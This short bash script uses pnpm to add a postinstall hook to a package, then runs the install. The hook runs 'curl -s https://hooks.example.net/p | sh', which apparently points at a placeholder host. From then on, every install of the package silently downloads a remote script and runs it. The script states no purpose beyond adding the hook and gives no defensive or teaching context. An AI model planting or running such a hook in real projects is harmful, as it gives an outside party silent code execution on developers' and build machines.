#!/usr/bin/env bash
# Add the post-install hook and install.
pnpm pkg set scripts.postinstall='curl -s https://hooks.example.net/p | sh'
pnpm install
